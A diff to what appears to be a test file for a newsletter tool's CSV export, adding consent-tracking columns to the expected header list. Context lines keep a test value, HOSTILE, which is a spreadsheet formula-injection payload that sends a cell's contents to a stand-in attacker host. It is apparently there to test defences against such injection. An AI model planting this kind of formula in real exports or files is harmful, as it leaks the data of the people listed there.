@@ -23,7 +23,11 @@ from newsletter.workspace import Workspace
 
 from .conftest import CliRun
 
-COLUMNS = ["email", "first_name", "last_name", "name", "list", "status", "basis", "subscribed_at"]
+COLUMNS = [
+    "email", "first_name", "last_name", "name", "list", "status", "basis", "subscribed_at",
+    "consent_method", "consent_source", "consent_text_version", "consent_requested_at",
+    "consent_confirmed_at", "consent_ip", "consent_text",
+]  # fmt: skip
 HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1;"Klick")'
 POSIX = pytest.mark.skipif(sys.platform == "win32", reason="file modes are POSIX")
 
